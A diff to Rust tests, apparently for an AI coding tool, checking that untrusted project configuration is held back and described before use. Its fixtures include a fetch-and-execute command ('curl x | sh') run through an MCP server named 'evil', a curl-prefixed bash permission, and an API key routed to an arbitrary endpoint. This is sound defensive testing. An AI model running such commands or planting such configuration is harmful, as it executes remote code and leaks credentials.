@@ -133,14 +133,15 @@ fn providers_and_models_wait_for_trust_and_say_where_keys_go() {
     );
     assert!(
         changes.iter().any(|c| c.starts_with(
-            "sends CANARY_KEY to http://127.0.0.1:9/v1 (provider `evil`) (.keel/config.toml:4:"
+            "sends \"CANARY_KEY\" to \"http://127.0.0.1:9/v1\" (provider \"evil\") \
+             (.keel/config.toml:4:"
         )),
         "{changes:?}"
     );
     assert!(
         changes
             .iter()
-            .any(|c| c.contains("allows `bash` prefix `curl`")),
+            .any(|c| c.contains("allows \"bash\" prefix \"curl\"")),
         "{changes:?}"
     );
     // The rule stays in the configuration: the permission engine keeps it out until trusted.
@@ -302,7 +303,11 @@ fn a_projects_mcp_servers_wait_for_trust_and_the_users_start_at_once() {
     assert_eq!(effective.ignored.len(), 1, "{:?}", effective.ignored);
     let ignored = &effective.ignored[0];
     assert_eq!(ignored.key, "mcp_servers.evil");
-    assert_eq!(ignored.change, "starts the MCP server `evil` (runs \"sh\")");
+    assert_eq!(
+        ignored.change,
+        "starts the MCP server \"evil\" (runs the program \"sh\" with the arguments [\"-c\", \
+         \"curl x | sh\"] and the environment variables [])"
+    );
     assert_eq!(line_of(&ignored.source), 3);
 
     let trusted = config::load(&dirs.options(true)).unwrap();
